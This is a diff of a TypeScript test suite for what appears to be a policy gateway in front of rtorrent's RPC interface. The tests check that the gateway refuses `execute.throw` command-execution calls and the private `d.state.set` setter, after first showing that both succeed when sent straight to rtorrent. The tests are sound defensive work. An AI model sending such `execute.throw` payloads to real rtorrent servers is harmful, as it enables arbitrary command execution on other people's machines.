+      return JSON.parse(response.body.toString('utf8')) as JsonAnswer;
     }
-    await sleep(QUIET_MS);
-    for (const t of targets) assert.equal(existsSync(t.marker), false);
+
+    /** Through the gateway with upstream.jsonrpc on: a policy refusal in a JSON-RPC error, and a warn line. */
+    async function refusedAsJson(body: string, refused: string): Promise<void> {
+      for (const { user, password, policy } of USERS) {
+        const from = jsonGateway.logs.length;
+        const response = await post(jsonGateway.url(), body, { authorization: basicAuth(user, password), 'content-type': 'application/json' });
+        assert.equal(response.status, 200, policy);
+        assert.equal(response.headers.get('x-gateway-error'), 'GW_POLICY_DENIED', policy);
+        const answer = JSON.parse(response.body.toString('utf8')) as JsonAnswer;
+        assert.equal(answer.id, 1);
+        assert.equal(answer.error?.code, -32403);
+        assert.ok(answer.error?.message.includes(`${refused} is not allowed for user "${user}" (policy "${policy}")`), answer.error?.message);
+        const line = await deniedLine(jsonGateway, from, user);
+        assert.equal(line.level, 40);
+      }
+    }
+
+    const title = speaksJson
+      ? `a JSON-RPC execute.throw: real against rtorrent ${build.version}, refused before any policy for standard and readonly while upstream.jsonrpc is off`
+      : 'a JSON-RPC execute.throw (blocked-only, not real on 0.9.8, which speaks only XML-RPC): refused before any policy for standard and readonly';
+    it(title, async () => {
+      if (speaksJson) {
+        const t = target(direct, 'json-proof');
+        await sendJsonDirect(direct, json('execute.throw', ['', 'touch', t.marker]));
+        assert.ok(await eventually(() => existsSync(t.marker), 2000), 'the attack works when sent straight to rtorrent');
+      }
+      const targets: Target[] = [];
+      for (const { user, password, policy } of USERS) {
+        const t = target(behind, `json-${policy}`);
+        const body = json('execute.throw', ['', 'touch', t.marker]);
+        const auth = { authorization: basicAuth(user, password) };
+
+        const asJson = await post(gateway.url(), body, { ...auth, 'content-type': 'application/json' });
+        assert.equal(asJson.status, 415, `${policy}: application/json is not a body type the gateway reads while upstream.jsonrpc is off`);
+
+        // Labelled as XML it is not XML-RPC: a parse fault, never relayed.
+        const from = gateway.logs.length;
+        const asXml = await post(gateway.url(), body, auth);
+        assert.equal(asXml.status, 200);
+        assert.equal(asXml.headers.get('x-gateway-error'), 'GW_XMLRPC_INVALID');
+        faultOf(asXml.body);
+        await eventually(() => gateway.logs.slice(from).some((entry) => entry.user === user && entry.level === 40), 1000);
+        const line = gateway.logs.slice(from).find((entry) => entry.user === user && entry.level === 40);
+        assert.equal(line?.outcome, 'invalid');
+        targets.push(t);
+      }
+      await sleep(QUIET_MS);
+      for (const t of targets) assert.equal(existsSync(t.marker), false);
+    });
+
+    it('a JSON-RPC execute.throw with upstream.jsonrpc on: refused by policy for standard and readonly', { skip: !speaksJson && 'rtorrent 0.9.8 speaks no JSON-RPC' }, async () => {
+      const t = target(behind, 'json-on');
+      await refusedAsJson(json('execute.throw', ['', 'touch', t.marker]), 'execute.throw');
+      await sleep(QUIET_MS);
+      assert.equal(existsSync(t.marker), false);
+    });
+
+    it(
+      `a private setter over JSON-RPC (d.state.set), which XML-RPC does not reach${speaksJson ? `: real against rtorrent ${build.version}` : ''}, refused for standard and readonly`,
+      { skip: !speaksJson && 'rtorrent 0.9.8 speaks no JSON-RPC' },
+      async () => {
+        const proof = target(direct, 'json-private');
+        const hash = await proof.loadTorrent();
+        await assert.rejects(direct.call('d.state.set', [hash, 1]), (err: unknown) => err instanceof XmlRpcFault && /not defined/i.test(err.faultString));
+        assert.equal(await direct.call('d.state', [hash]), 0);
+        const answer = await sendJsonDirect(direct, json('d.state.set', [hash, 1]));
+        assert.equal(answer.error, undefined, JSON.stringify(answer));
+        assert.equal(await direct.call('d.state', [hash]), 1, 'the private setter works when sent straight to rtorrent');
+
+        const t = target(behind, 'json-private');
+        const victim = await t.loadTorrent();
+        await refusedAsJson(json('d.state.set', [victim, 1]), 'd.state.set');
+        assert.equal(await behind.call('d.state', [victim]), 0);
+      },
+    );
   });
-});
+}
